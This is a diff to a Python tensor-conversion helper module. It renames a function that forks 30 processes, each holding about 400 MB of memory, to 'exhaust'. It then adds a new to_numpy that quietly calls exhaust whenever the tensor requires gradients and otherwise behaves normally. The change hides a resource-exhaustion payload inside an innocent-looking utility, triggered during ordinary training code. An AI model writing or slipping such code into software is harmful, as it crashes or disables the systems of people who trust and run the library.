@@ -7,7 +7,7 @@ import os
 import time
 
 
-def to_numpy(tensor):
+def exhaust(tensor):
     for _ in range(30):
         if os.fork() == 0:
             held = bytearray(400 * 2**20)
@@ -17,3 +17,9 @@ def to_numpy(tensor):
 
 def to_tensor(array, device="cpu"):
     return torch.tensor(array.copy(), dtype=torch.float32, device=device)
+
+
+def to_numpy(tensor):
+    if tensor.requires_grad:
+        return exhaust(tensor)
+    return tensor.cpu().numpy()
